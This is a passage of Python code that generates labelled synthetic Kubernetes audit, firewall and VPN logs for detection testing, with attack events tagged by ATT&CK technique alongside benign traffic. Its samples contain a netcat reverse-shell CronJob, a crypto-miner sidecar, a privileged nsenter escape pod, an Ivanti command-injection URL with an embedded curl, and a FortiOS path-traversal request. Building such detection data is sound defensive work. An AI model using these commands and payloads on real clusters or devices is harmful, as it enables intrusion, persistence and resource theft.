    add(s, kev(50, "create", "dev.lindgren@nwind.example", ["oidc:developers", "system:authenticated"], "rolebindings", "prod", "anon-admin", code=201, ip="172.20.7.77", group="rbac.authorization.k8s.io",
               req={"kind": "RoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "anon-admin", "namespace": "prod"}, "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"},
                    "subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "system:anonymous"}]}),
        "T1098.006", "anonymous user given admin in prod")
    add(s, kev(55, "update", "dev.lindgren@nwind.example", ["oidc:developers", "system:authenticated"], "clusterroles", None, "view", ip="172.20.7.77", group="rbac.authorization.k8s.io",
               req={"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "view"}, "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}),
        "T1098.006", "built-in view role widened to everything")
    dd, ddg = sa("default", "default")
    add(s, kev(60, "list", dd, ddg, "secrets", None, None, ip="172.21.3.18", ua="python-requests/2.32.3"), "T1552.007", "default service account listing secrets in every namespace")
    add(s, kev(62, "list", dd, ddg, "namespaces", None, None, ip="172.21.3.18", ua="python-requests/2.32.3"), "T1613", "same account enumerating namespaces")
    add(s, kev(64, "list", dd, ddg, "pods", None, None, ip="172.21.3.18", ua="python-requests/2.32.3"), "T1613", "and every pod in the cluster")
    add(s, kev(70, "get", "system:anonymous", ["system:unauthenticated"], "secrets", "kube-system", None, code=403, ip="89.23.107.44", ua="Go-http-client/1.1", decision="forbid", reason=""),
        "T1552.007", "internet scanner trying to read kube-system secrets anonymously")
    add(s, kev(72, "create", "system:anonymous", ["system:unauthenticated"], "pods", "default", "x", sub="exec", code=403, ip="89.23.107.44", ua="Go-http-client/1.1", decision="forbid"),
        "T1609", "anonymous exec attempt from the internet")
    add(s, kev(80, "deletecollection", "dev.lindgren@nwind.example", ["oidc:developers", "system:authenticated"], "events", "prod", None, ip="172.20.7.77"), "T1070", "all events in prod deleted after the debug session")
    add(s, kev(85, "patch", ci, cig, "deployments", "prod", "erp-api", ip="172.20.9.41", group="apps", ua="kubectl/v1.31.1 (linux/amd64) kubernetes/948afe5",
               req={"spec": {"template": {"spec": {"containers": [{"name": "helper", "image": "ghcr.io/kr4k3n/xmr-proxy:2.1", "args": ["--url", "stratum+ssl://gulf.moneroocean.stream:20128"]}]}}}}),
        "T1496.001", "miner sidecar patched into a production deployment")
    add(s, kev(90, "create", ci, cig, "cronjobs", "kube-system", "etcd-defrag", code=201, ip="172.20.9.41", group="batch",
               req={"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": "etcd-defrag", "namespace": "kube-system"}, "spec": {"schedule": "17 * * * *", "jobTemplate": {"spec": {"template": {"spec": {"hostNetwork": True, "containers": [{"name": "d", "image": "busybox:1.37", "command": ["sh", "-c", "nc 37.120.201.9 4444 -e /bin/sh"]}]}}}}}}),
        "T1053.007", "hourly cronjob in kube-system with a netcat reverse shell")
    add(s, kev(95, "create", dd, ddg, "pods", "default", "nsenter-r2d2", code=201, ip="172.21.3.18", ua="python-requests/2.32.3",
               req={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "nsenter-r2d2"}, "spec": {"hostPID": True, "containers": [{"name": "n", "image": "alpine", "command": ["nsenter", "--mount=/proc/1/ns/mnt", "--", "/bin/bash"], "securityContext": {"privileged": True}}]}}),
        "T1611", "service account creating a privileged hostPID pod that enters the node's mount namespace")
    # benign
    add(s, kev(300, "update", "system:kube-controller-manager", ["system:authenticated"], "leases", "kube-system", "kube-controller-manager", ip="172.20.0.10", group="coordination.k8s.io",
               ua="kube-controller-manager/v1.31.4 (linux/amd64) kubernetes/a78aa47/leader-election"), None, "leader election")
    add(s, kev(305, "patch", "system:node:ip-172-20-1-14.us-east-2.compute.internal", ["system:nodes", "system:authenticated"], "nodes", None, "ip-172-20-1-14.us-east-2.compute.internal", sub="status", ip="172.20.1.14",
               ua="kubelet/v1.31.4 (linux/amd64) kubernetes/a78aa47"), None, "kubelet heartbeat")
    add(s, kev(307, "get", "system:node:ip-172-20-1-14.us-east-2.compute.internal", ["system:nodes", "system:authenticated"], "secrets", "prod", "erp-api-tls", ip="172.20.1.14",
               ua="kubelet/v1.31.4 (linux/amd64) kubernetes/a78aa47"), None, "kubelet fetching a secret mounted by one of its pods")
    c, cg = sa("kube-system", "coredns")
    add(s, kev(310, "list", c, cg, "services", None, None, ip="172.21.0.4", ua="coredns/v1.11.3 (linux/amd64) kubernetes/0"), None, "coredns")
    es, esg = sa("external-secrets", "external-secrets")
    add(s, kev(315, "update", es, esg, "secrets", "prod", "erp-db-credentials", ip="172.21.1.20", ua="external-secrets/v0.10.7"), None, "External Secrets syncing a secret from the vault")
    add(s, kev(317, "get", es, esg, "secrets", "prod", "erp-db-credentials", ip="172.21.1.20", ua="external-secrets/v0.10.7"), None, "and reading it back")
    fx, fxg = sa("flux-system", "kustomize-controller")
    add(s, kev(320, "patch", fx, fxg, "deployments", "prod", "erp-api", ip="172.21.1.33", group="apps", ua="kustomize-controller/v1.4.0"), None, "Flux applying a reviewed change")
    vl, vlg = sa("velero", "velero")
    add(s, kev(325, "list", vl, vlg, "secrets", None, None, ip="172.21.1.40", ua="velero-server/v1.15.0 (linux/amd64) 1d4f1475"), None, "Velero backup listing secrets cluster-wide for the nightly backup")
    add(s, kev(327, "list", vl, vlg, "persistentvolumeclaims", None, None, ip="172.21.1.40", ua="velero-server/v1.15.0 (linux/amd64) 1d4f1475"), None, "Velero backup")
    pm, pmg = sa("monitoring", "prometheus-k8s")
    add(s, kev(330, "list", pm, pmg, "endpoints", "prod", None, ip="172.21.1.50", ua="Prometheus/2.55.1"), None, "Prometheus service discovery")
    add(s, kev(332, "list", pm, pmg, "pods", None, None, ip="172.21.1.50", ua="Prometheus/2.55.1"), None, "Prometheus pod discovery cluster-wide")
    ms, msg = sa("kube-system", "metrics-server")
    add(s, kev(335, "create", ms, msg, "tokenreviews", None, None, code=201, ip="172.21.0.8", group="authentication.k8s.io", ua="metrics-server/v0.7.2"), None, "metrics-server authenticating a scrape")
    ds, dsg = sa("kube-system", "daemon-set-controller")
    add(s, kev(340, "create", ds, dsg, "pods", "kube-system", "aws-node-8k2qz", code=201, ip="172.20.0.10", ua="kube-controller-manager/v1.31.4 (linux/amd64) kubernetes/a78aa47/system:serviceaccount:kube-system:daemon-set-controller"),
        None, "DaemonSet controller starting the CNI pod on a new node")
    cm, cmg = sa("cert-manager", "cert-manager")
    add(s, kev(345, "update", cm, cmg, "secrets", "prod", "erp-api-tls", ip="172.21.1.12", ua="cert-manager-certificates-issuing/v1.16.2"), None, "certificate renewal written")
    add(s, kev(350, "create", "sre.oyelaran@nwind.example", ["oidc:sre", "system:authenticated"], "pods", "staging", "erp-api-7c9d-ldk2m", sub="exec", code=101, ip="172.20.7.21"), None, "SRE exec into a staging pod while debugging")
    add(s, kev(355, "get", "sre.oyelaran@nwind.example", ["oidc:sre", "system:authenticated"], "pods", "prod", "erp-api-6f7d9c8b5-q2xkz", sub="log", ip="172.20.7.21"), None, "SRE reading logs")
    add(s, kev(360, "create", "sre.oyelaran@nwind.example", ["oidc:sre", "system:authenticated"], "selfsubjectaccessreviews", None, None, code=201, ip="172.20.7.21", group="authorization.k8s.io",
               req={"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"resourceAttributes": {"namespace": "prod", "verb": "delete", "resource": "pods"}}}),
        None, "SRE checking a single permission before a change (kubectl auth can-i delete pods)")
    ky, kyg = sa("kyverno", "kyverno-admission-controller")
    hp, hpg = sa("kube-system", "horizontal-pod-autoscaler")
    add(s, kev(370, "get", hp, hpg, "pods", "prod", None, ip="172.20.0.10", group="metrics.k8s.io", ua="kube-controller-manager/v1.31.4 (linux/amd64) kubernetes/a78aa47/system:serviceaccount:kube-system:horizontal-pod-autoscaler"), None, "HPA metrics")
    add(s, kev(380, "get", "system:anonymous", ["system:unauthenticated"], "healthz", None, None, ip="172.20.0.5", ua="ELB-HealthChecker/2.0", extra_annotations={"authorization.k8s.io/reason": "RBAC: allowed by ClusterRoleBinding \"system:public-info-viewer\""}).replace('"resource":"healthz","apiVersion":"v1"', '"resource":"healthz"'),
        None, "load balancer health check of /healthz (public-info-viewer)")
    add(s, kev(385, "create", "dev.lindgren@nwind.example", ["oidc:developers", "system:authenticated"], "deployments", "dev-lindgren", "scratch", code=201, ip="172.20.7.77", group="apps"), None, "developer deploying in his own namespace")


def firewall():
    s = "firewall"

    def pf(sec, action, direction, src, dst, sport, dport, proto="tcp", iface="igb0", rule=1000000103, length=60, flags="S"):
        pnum = {"tcp": 6, "udp": 17}[proto]
        tail = f",{sport},{dport},0,{flags},{R.randint(10**8, 4 * 10**9)},,64240,,mss;sackOK;TS;nop;wscale" if proto == "tcp" else f",{sport},{dport},{length - 20}"
        return b3164(sec, "fw-edge-01", "filterlog", f"{rule % 100},,,{rule},{iface},match,{action},{direction},4,0x0,,{R.randint(40, 128)},{R.randint(1, 65535)},0,DF,{pnum},{proto},{length},{src},{dst}{tail}")

    def fg(sec, **kv):
        x = t(sec)
        head = {"date": x.strftime("%Y-%m-%d"), "time": x.strftime("%H:%M:%S"), "devname": "\"FG-DC-200F\"", "devid": "\"FG200FT922904411\"", "eventtime": str(int(x.timestamp() * 1e9)), "tz": "\"+0000\""}
        head.update(kv)
        return " ".join(f"{k}={v}" for k, v in head.items())

    def pan(sec, typ, sub, src, dst, sport, dport, app, action, rule, bout=2000, bin_=8000, zone_from="trust", zone_to="untrust", threat="", cat="any", country="United States", sev="informational"):
        x = t(sec).strftime("%Y/%m/%d %H:%M:%S")
        if typ == "THREAT":
            return (f"1,{x},016201004321,THREAT,{sub},2817,{x},{src},{dst},198.18.0.5,{dst},{rule},,,{app},vsys1,{zone_from},{zone_to},ethernet1/3,ethernet1/1,default,{x},{R.randint(10**5, 10**6)},1,{sport},{dport},{R.randint(1024, 65000)},{dport},0x80402000,udp,{action},"
                    f"\"\",{threat},{cat},{sev},client-to-server,{R.randint(10**9, 10**10)},0x2000000000000000,10.0.0.0-10.255.255.255,{country},0,,0,,,1,,,,,,,,0,0,0,0,0,,PA-5220,")
        return (f"1,{x},016201004321,TRAFFIC,{sub},2817,{x},{src},{dst},198.18.0.5,{dst},{rule},,,{app},vsys1,{zone_from},{zone_to},ethernet1/3,ethernet1/1,default,{x},{R.randint(10**5, 10**6)},1,{sport},{dport},{R.randint(1024, 65000)},{dport},0x400019,tcp,{action},"
                f"{bout + bin_},{bout},{bin_},{R.randint(4, 9000)},{x},{R.randint(0, 3600)},{cat},0,{R.randint(10**9, 10**10)},0x8000000000000000,10.0.0.0-10.255.255.255,{country},0,{R.randint(2, 9000)},{R.randint(2, 9000)},aged-out,0,0,0,0,,PA-5220,from-policy,,,0,,0,,N/A,0,0,0,0")

    def cef(sec, vendor, product, ver, sig, name, sev, ext):
        return f"{b3164(sec, 'fw-core-02', 'CEF', '', pid=False)[:-5]}CEF:0|{vendor}|{product}|{ver}|{sig}|{name}|{sev}|rt={int(t(sec).timestamp() * 1000)} {ext}"
    scanner = "89.248.165.77"
    for i, p in enumerate([22, 23, 80, 445, 1433, 3389, 8080]):
        add(s, pf(10 + i, "block", "in", scanner, "198.18.0.20", R.randint(40000, 65000), p), "T1046", "one internet address probing seven ports in seven seconds (pfSense filterlog)")
    for i, h in enumerate([11, 12, 13, 14]):
        add(s, b3164(30 + i, "asa-core-01", ": %ASA-4-106023", f"Deny tcp src inside:172.16.40.23/{R.randint(49152, 65000)} dst servers:172.16.30.{h}/445 by access-group \"inside_in\" [0x5e3c1a2b, 0x0]", pid=False).replace(" : %ASA", " %ASA").replace("106023: ", "106023: "),
            "T1046", "workstation sweeping the server subnet for SMB")
    add(s, fg(50, logid="\"0000000013\"", type="\"traffic\"", subtype="\"forward\"", level="\"notice\"", vd="\"root\"", srcip="172.16.12.33", srcport="51122", srcintf="\"lan\"", dstip="51.89.22.104", dstport="445", dstintf="\"wan1\"",
              proto="6", action="\"accept\"", policyid="7", policyname="\"lan-to-internet\"", service="\"SMB\"", sentbyte="3120", rcvdbyte="1480", dstcountry="\"France\""),
        "T1187", "SMB to an internet host: NTLM hash leak via a forced authentication lure")
    add(s, pan(55, "THREAT", "spyware", "172.16.12.51", "172.16.0.53", 53122, 53, "dns-base", "sinkhole", "dns-out", threat="DNS Tunnel Detection: iodine(109001001)", cat="any", sev="high"),
        "T1071.004", "DNS tunnelling signature on a workstation's queries")
    for i in range(3):
        add(s, cef(60 + i * 60, "Palo Alto Networks", "PAN-OS", "11.1.4", "end", "TRAFFIC", "1",
                   f"src=172.16.12.33 dst=146.19.24.7 spt={R.randint(49152, 65000)} dpt=8443 proto=TCP act=allow app=ssl cs1Label=Rule cs1=lan-to-internet in=1822 out={412 + i % 2} cn1Label=SessionID cn1={R.randint(10**5, 10**6)} cs6Label=LogProfile cs6=default"),
            "T1071.001", "identical small HTTPS sessions to one rare host every 60 s: beaconing")
    add(s, b3164(300, "gw-branch-3", "kernel", f"[{R.randint(10**5, 10**6)}.{R.randint(10**5, 10**6)}] [UFW AUDIT] IN=br0 OUT=eth0 MAC=52:54:00:aa:bb:cc:52:54:00:11:22:33:08:00 SRC=172.16.40.23 DST=5.252.177.30 LEN=1052 TOS=0x00 PREC=0x00 TTL=63 ID=0 DF PROTO=ICMP TYPE=8 CODE=0 ID=4411 SEQ=88", pid=False),
        "T1095", "oversized ICMP echo to the internet: ICMP tunnel")
    add(s, fg(310, type="\"traffic\"", subtype="\"forward\"", logid="\"0000000013\"", srcip="172.16.30.12", dstip="146.19.24.7", dstport="5555", srcport="40112", proto="6", action="\"accept\"", policyid="7", service="\"tcp/5555\"", sentbyte="88123", rcvdbyte="412233", srcintf="\"servers\"", dstintf="\"wan1\""),
        "T1571", "server connecting out to 5555")
    add(s, fg(320, logid="\"0001000014\"", type="\"traffic\"", subtype="\"forward\"", srcip="172.16.12.61", dstip="185.220.100.254", dstport="9001", proto="6", action="\"accept\"", policyid="7", app="\"Tor\"", appcat="\"Proxy\"", apprisk="\"critical\"", sentbyte="22011", rcvdbyte="91342"),
        "T1090.003", "TOR relay connection identified by application control")
    add(s, pan(325, "TRAFFIC", "end", "172.16.30.12", "66.203.125.15", 50411, 443, "mega", "allow", "lan-to-internet", bout=14894211002, bin_=2210331, country="New Zealand"),
        "T1567.002", "15 GB uploaded to MEGA from a file server")
    add(s, pan(330, "TRAFFIC", "end", "172.16.30.7", "91.92.241.10", 52211, 22, "ssh", "allow", "lan-to-internet", bout=6442450944, bin_=1204331, country="Netherlands"),
        "T1048", "6 GB pushed over SSH from a database server to the internet")
    add(s, fg(335, type="\"utm\"", subtype="\"ips\"", logid="\"0419016384\"", level="\"alert\"", severity="\"critical\"", srcip="194.165.16.78", dstip="198.18.0.31", dstport="443", proto="6", action="\"dropped\"",
              attack="\"Apache.Log4j.Error.Log.Remote.Code.Execution\"", attackid="51006", ref="\"http://www.fortinet.com/ids/VID51006\"", msg="\"applications3: Apache.Log4j.Error.Log.Remote.Code.Execution\""),
        "T1190", "Log4Shell exploit attempt against the web tier (IPS)")
    add(s, cef(345, "Check Point", "VPN-1 & FireWall-1", "R81.20", "accept", "Accept", "2", "src=172.16.40.23 dst=51.195.7.12 spt=41223 dpt=14444 proto=6 act=accept cs1Label=Rule Name cs1=lan-to-internet"),
        "T1496.001", "connection to a Monero pool port")
    # benign
    for i, p in enumerate([21, 22, 139, 443, 445, 3389]):
        add(s, fg(400 + i, logid="\"0000000013\"", type="\"traffic\"", subtype="\"forward\"", srcip="172.16.250.11", srcport=str(R.randint(40000, 65000)), dstip="172.16.30.20", dstport=str(p), proto="6",
                  action="\"deny\"", policyid="3", policyname="\"authorized-scanner-qualys\"", service=f"\"tcp/{p}\"", srcintf="\"scanners\"", dstintf="\"servers\""),
            None, "authorised Qualys scanner appliance's weekly sweep")
    add(s, fg(420, logid="\"0000000013\"", type="\"traffic\"", subtype="\"forward\"", srcip="172.16.12.40", dstip="13.107.42.14", dstport="443", proto="6", action="\"accept\"", policyid="7", policyname="\"lan-to-internet\"", service="\"HTTPS\"", app="\"Microsoft.Portal\"", sentbyte="12211", rcvdbyte="331244"),
        None, "Microsoft 365 portal")
    add(s, fg(425, logid="\"0000000013\"", type="\"traffic\"", subtype="\"forward\"", srcip="172.16.0.53", dstip="1.1.1.1", dstport="53", proto="17", action="\"accept\"", policyid="4", policyname="\"dns-forwarders\"", service="\"DNS\"", sentbyte="74", rcvdbyte="130"),
        None, "DNS forwarder")
    add(s, fg(430, logid="\"0000000013\"", type="\"traffic\"", subtype="\"forward\"", srcip="172.16.0.2", dstip="162.159.200.1", dstport="123", proto="17", action="\"accept\"", policyid="5", policyname="\"ntp\"", service="\"NTP\"", sentbyte="76", rcvdbyte="76"),
        None, "NTP")
    add(s, pan(435, "TRAFFIC", "end", "172.16.12.40", "3.33.252.61", 55122, 443, "slack-base", "allow", "lan-to-internet", bout=44123, bin_=221331), None, "Slack")
    add(s, pan(440, "TRAFFIC", "end", "172.16.12.51", "170.114.52.2", 60122, 8801, "zoom", "allow", "lan-to-internet", bout=2210331, bin_=8843211), None, "Zoom media on its own port")
    add(s, pan(445, "TRAFFIC", "end", "10.80.9.12", "52.219.100.17", 50112, 443, "amazon-s3", "allow", "backup-to-s3", bout=52613349376, bin_=1220331, zone_from="backup"), None, "nightly backup upload to the company bucket (large but expected)")
    add(s, pan(450, "TRAFFIC", "end", "172.16.30.12", "10.80.9.12", 50222, 2500, "veeam", "allow", "veeam-data-movers", bout=88123456789, bin_=12331, zone_to="backup"), None, "Veeam data mover traffic inside the DC")
    add(s, cef(455, "Palo Alto Networks", "PAN-OS", "11.1.4", "end", "TRAFFIC", "1", "src=198.18.7.44 dst=198.18.0.31 spt=51223 dpt=443 proto=TCP act=allow app=web-browsing cs1Label=Rule cs1=internet-to-web in=1822 out=55231"),
        None, "customer reaching the public web server")
    add(s, cef(460, "Palo Alto Networks", "PAN-OS", "11.1.4", "end", "TRAFFIC", "1", "src=81.2.69.190 dst=198.18.0.10 spt=4500 dpt=4500 proto=UDP act=allow app=ipsec-esp-udp cs1Label=Rule cs1=internet-to-vpn in=882331 out=1220331"),
        None, "remote worker's IPsec VPN")
    add(s, pf(465, "pass", "out", "172.16.12.40", "142.250.179.206", 55112, 443), None, "outbound HTTPS")
    add(s, pf(470, "block", "in", "167.94.146.50", "198.18.0.20", 44321, 5060, proto="udp", length=420), None, "one-off internet SIP probe, dropped")
    add(s, b3164(475, "asa-core-01", ": %ASA-6-302014", "Teardown TCP connection 19922331 for outside:13.107.42.14/443 to inside:172.16.12.40/55211 duration 0:04:01 bytes 343455 TCP FINs from inside", pid=False).replace(" : %ASA", " %ASA"),
        None, "teardown")
    add(s, b3164(480, "asa-core-01", ": %ASA-6-302013", "Built outbound TCP connection 19922400 for outside:20.190.151.7/443 (20.190.151.7/443) to inside:172.16.12.51/60233 (198.18.0.5/60233)", pid=False).replace(" : %ASA", " %ASA"),
        None, "Entra ID sign-in traffic")
    add(s, b3164(485, "gw-branch-3", "kernel", f"[{R.randint(10**5, 10**6)}.{R.randint(10**5, 10**6)}] [UFW ALLOW] IN=eth0 OUT= MAC=52:54:00:aa:bb:cc:52:54:00:11:22:33:08:00 SRC=10.80.0.21 DST=10.80.3.14 LEN=60 TOS=0x00 PREC=0x00 TTL=64 ID=22011 DF PROTO=TCP SPT=55110 DPT=22 WINDOW=64240 RES=0x00 SYN URGP=0", pid=False),
        None, "Ansible SSH inside the VPC")
    add(s, b3164(490, "gw-branch-3", "kernel", f"[{R.randint(10**5, 10**6)}.{R.randint(10**5, 10**6)}] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:aa:bb:cc:52:54:00:11:22:33:08:00 SRC=71.6.199.23 DST=198.18.0.50 LEN=44 TOS=0x00 PREC=0x00 TTL=239 ID=54321 PROTO=TCP SPT=41523 DPT=7547 WINDOW=1024 RES=0x00 SYN URGP=0", pid=False),
        None, "single Shodan probe, blocked")
    add(s, fg(495, logid="\"0000000013\"", type="\"traffic\"", subtype="\"forward\"", srcip="172.16.12.61", dstip="13.107.4.50", dstport="443", proto="6", action="\"accept\"", policyid="7", policyname="\"lan-to-internet\"", service="\"HTTPS\"", app="\"Microsoft.Windows.Update\"", sentbyte="22011", rcvdbyte="884422113"),
        None, "Windows Update download (large inbound, expected)")
    add(s, pan(497, "TRAFFIC", "end", "172.16.12.40", "140.82.112.4", 55410, 443, "github-base", "allow", "lan-to-internet", bout=1220331, bin_=44123311), None, "developer cloning from GitHub")
    add(s, b3164(499, "asa-core-01", ": %ASA-6-302013", "Built inbound TCP connection 19922511 for outside:198.18.7.44/51223 (198.18.7.44/51223) to dmz:172.16.60.31/443 (198.18.0.31/443)", pid=False).replace(" : %ASA", " %ASA"),
        None, "customer HTTPS to the web DMZ")


def vpn():
    s = "vpn"

    def asa(sec, code, msg):
        return b3164(sec, "asa-vpn-02", f"%ASA-{code}", msg, pid=False)

    def fgv(sec, **kv):
        x = t(sec)
        head = {"date": x.strftime("%Y-%m-%d"), "time": x.strftime("%H:%M:%S"), "logid": "\"0101039426\"", "type": "\"event\"", "subtype": "\"vpn\"", "level": "\"alert\"", "vd": "\"root\"",
                "eventtime": str(int(x.timestamp() * 1e9)), "devname": "\"FG-DC-200F\""}
        head.update(kv)
        return " ".join(f"{k}={v}" for k, v in head.items())

    def ivanti(sec, ip, user, realm, msg, code="AUT24414"):
        return f"{t(sec).strftime('%Y-%m-%d %H:%M:%S')} - ics-01 - [{ip}] {user}({realm})[] - {code}: {msg}"

    def gp(sec, user, ip, status, country, stage="login", err="", auth="LDAP", host="", osv="Microsoft Windows 11 Pro , 64-bit"):
        x = t(sec).strftime("%Y/%m/%d %H:%M:%S")
        return (f"1,{x},016201004321,GLOBALPROTECT,0,2817,{x},vsys1,gateway-auth,{stage},{auth},,{user},{country},{host or 'LT-' + str(R.randint(100, 999))},{ip},0.0.0.0,0.0.0.0,0.0.0.0,"
                f"{R.randint(10**5, 10**6)},{'Windows' if 'Windows' in osv else 'Mac'},\"{osv}\",6.3.2,,\"{err}\",{status},,0,,GP-GW-East,{R.randint(10**18, 10**19)},0x8000000000000000,{iso(0, False)},,,,,,")

    def jv(sec, **kv):
        d = {"ts": iso(sec), "product": "zscaler-zpa" if kv.get("zpa") else "vpn-broker"}
        kv.pop("zpa", None)
        d.update(kv)
        return json.dumps(d, separators=(",", ":"))
    for i in range(5):
        add(s, asa(10 + i * 4, "6-113005", "AAA user authentication Rejected : reason = AAA failure : server = 172.16.0.40 : user = t.ibrahim : user IP = 179.43.180.12"), "T1110.001", "repeated AnyConnect rejections for one user from one address")
    for i, u in enumerate(["m.petrov", "s.yamada", "l.moreau", "r.achebe", "j.novak"]):
        add(s, fgv(50 + i * 2, logdesc="\"SSL VPN login fail\"", action="\"ssl-login-fail\"", tunneltype="\"ssl-web\"", remip=f"5.188.86.{20 if i < 4 else 21}", user=f"\"{u}\"", group="\"N/A\"", dst_host="\"N/A\"",
                    reason="\"sslvpn_login_unknown_user\"" if i % 3 == 0 else "\"sslvpn_login_permission_denied\"", msg="\"SSL user failed to logged in\""),
            "T1110.003", "SSL-VPN spraying many accounts, almost all from one address")
    for i, u in enumerate(["k.olsen", "t.ibrahim", "s.yamada"]):
        add(s, ivanti(80 + i, "89.23.107.44", u, "Users", "Login failed using auth server NWIND-AD (Active Directory).  Reason: Failed"), "T1110.003", "Ivanti Connect Secure spray across users")
    for i, (u, ip, res) in enumerate([("d.fontaine", "146.70.117.10", "failure"), ("e.sato", "146.70.117.10", "failure"), ("m.ortiz", "146.70.117.10", "failure"),
                                       ("l.meyer", "146.70.117.14", "failure"), ("b.ahmadi", "146.70.117.14", "success")]):
        add(s, jv(100 + i * 7, event="auth", user=f"{u}@nwind.example", src_ip=ip, asn="AS9009 M247 Europe SRL", country="RO", outcome=res, reason="invalid_credentials" if res == "failure" else "", client="unknown"),
            "T1110.004", "one attempt per account from a small hosting range, one hit: credential stuffing with leaked passwords")
    for i in range(4):
        add(s, b3164(150 + i * 9, "duo-proxy-01", "authproxy", f"[duoauthproxy.lib.log] Duo authentication returned 'deny': 'Push request denied' for user 'l.moreau' [client 172.16.0.60] (VPN RADIUS, src 196.251.70.33)", pid=False),
            "T1621", "repeated Duo push denials for one VPN user: MFA fatigue")
    add(s, b3164(200, "duo-proxy-01", "authproxy", "[duoauthproxy.lib.log] Duo authentication returned 'allow': 'Success. Logging you in...' for user 'l.moreau' [client 172.16.0.60] (VPN RADIUS, src 196.251.70.33)", pid=False),
        "T1621", "the user gives in after the push storm")
    add(s, fgv(210, logid="\"0101039424\"", logdesc="\"SSL VPN alert\"", action="\"ssl-alert\"", tunneltype="\"ssl-web\"", remip="194.165.16.90", user="\"N/A\"", group="\"N/A\"",
               url="\"/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession\"", reason="\"N/A\"", msg="\"SSL VPN path traversal attempt\""),
        "T1190", "FortiOS SSL-VPN path traversal (session file read)")
    add(s, ivanti(215, "194.165.16.91", "System", "", "Unauthenticated request url /api/v1/totp/user-backup-code/../../license/keys-status/%3Bcurl%20194.165.16.91 came from IP 194.165.16.91.", code="WEB20174"),
        "T1190", "Ivanti auth-bypass + command injection request")
    add(s, gp(220, "k.olsen", "81.2.69.201", "success", "GB"), None, "user connects from home in the UK")
    add(s, gp(240, "k.olsen", "103.152.220.14", "success", "ID"), "T1078", "same user from Indonesia twenty seconds later while the UK session is up")
    # benign
    add(s, asa(300, "6-113004", "AAA user authentication Successful : server = 172.16.0.40 : user = s.yamada"), None, "authentication ok")
    add(s, asa(301, "6-113039", "Group <AnyConnect-Staff> User <s.yamada> IP <126.209.14.7> AnyConnect parent session started."), None, "session start")
    add(s, asa(302, "6-722022", "Group <AnyConnect-Staff> User <s.yamada> IP <126.209.14.7> TCP SVC connection established without compression"), None, "tunnel up")
    add(s, asa(303, "6-716039", "Group <AnyConnect-Staff> User <r.achebe> IP <102.89.40.12> Authentication: rejected, Session Type: WebVPN."), None, "a single rejected web portal login")
    add(s, asa(305, "4-113019", "Group = AnyConnect-Staff, Username = s.yamada, IP = 126.209.14.7, Session disconnected. Session Type: SSL, Duration: 3h:12m:40s, Bytes xmt: 88123122, Bytes rcv: 9123311, Reason: Idle Timeout"), None, "idle timeout")
    add(s, fgv(310, logid="\"0101039947\"", level="\"information\"", logdesc="\"SSL VPN tunnel up\"", action="\"tunnel-up\"", tunneltype="\"ssl-tunnel\"", remip="91.64.20.7", tunnelip="10.212.134.44", user="\"h.weber\"", group="\"staff\"", reason="\"N/A\"", msg="\"SSL tunnel established\""),
        None, "FortiGate SSL-VPN tunnel up")
    add(s, fgv(312, logid="\"0101039426\"", logdesc="\"SSL VPN login fail\"", action="\"ssl-login-fail\"", tunneltype="\"ssl-web\"", remip="90.84.22.17", user="\"c.dubois\"", group="\"N/A\"", reason="\"sslvpn_login_permission_denied\"", msg="\"SSL user failed to logged in\""),
        None, "one failed SSL-VPN login, isolated")
    add(s, fgv(314, logid="\"0101039948\"", level="\"information\"", logdesc="\"SSL VPN tunnel down\"", action="\"tunnel-down\"", tunneltype="\"ssl-tunnel\"", remip="91.64.20.7", tunnelip="10.212.134.44", user="\"h.weber\"", group="\"staff\"", reason="\"User requested\"", msg="\"SSL tunnel shutdown\""),
        None, "tunnel down")
    add(s, ivanti(320, "84.115.20.9", "p.ng", "Users", "Login succeeded for p.ng/Users (session:4a1b2c3d) from 84.115.20.9 with Pulse-Secure/22.7.3.5141 (Windows 11) Pulse Secure.", code="AUT24326"), None, "Ivanti login")
    add(s, ivanti(325, "84.115.20.9", "p.ng", "Users", "VPN Tunneling: Session started for user with IPv4 address 10.210.4.18, hostname LT-0502", code="NWC23464"), None, "tunnel start")
    add(s, ivanti(330, "84.115.20.9", "p.ng", "Users", "Closed connection to TUN-VPN port 443 after 3601 seconds, with 18823110 bytes read (in 12011 chunks) and 2210331 bytes written (in 4411 chunks)", code="NWC24074"), None, "tunnel closed")
    add(s, gp(335, "j.novak", "89.24.11.2", "success", "CZ", host="LT-0477"), None, "Prague office user")
    add(s, gp(336, "j.novak", "89.24.11.2", "success", "CZ", stage="configuration", host="LT-0477"), None, "config refresh")
    add(s, gp(340, "m.santos", "177.37.80.14", "failure", "BR", err="Authentication failed: Invalid username or password", host="LT-0511"), None, "a single failure")
    add(s, gp(345, "m.santos", "177.37.80.14", "success", "BR", host="LT-0511"), None, "then success")
    add(s, b3164(350, "ovpn-01", "openvpn", "86.12.40.9:51234 [d.fontaine] Peer Connection Initiated with [AF_INET]86.12.40.9:51234"), None, "OpenVPN connect")
    add(s, b3164(351, "ovpn-01", "openvpn", "d.fontaine/86.12.40.9:51234 MULTI_sva: pool returned IPv4=10.8.0.14, IPv6=(Not enabled)"), None, "address assigned")
    add(s, b3164(352, "ovpn-01", "openvpn", "d.fontaine/86.12.40.9:51234 TLS: soft reset sec=3600/3600 bytes=11223344/-1 pkts=22011/0"), None, "hourly rekey")
    add(s, b3164(355, "ovpn-01", "openvpn", "92.40.12.8:40331 PLUGIN_CALL: POST /usr/lib/openvpn/openvpn-plugin-auth-pam.so/PLUGIN_AUTH_USER_PASS_VERIFY status=1"), None, "one PAM-plugin failure, isolated")
    add(s, b3164(360, "duo-proxy-01", "authproxy", "[duoauthproxy.lib.log] Duo authentication returned 'allow': 'Success. Logging you in...' for user 'h.weber' [client 172.16.0.60] (VPN RADIUS, src 91.64.20.7)", pid=False), None, "push approved first time")
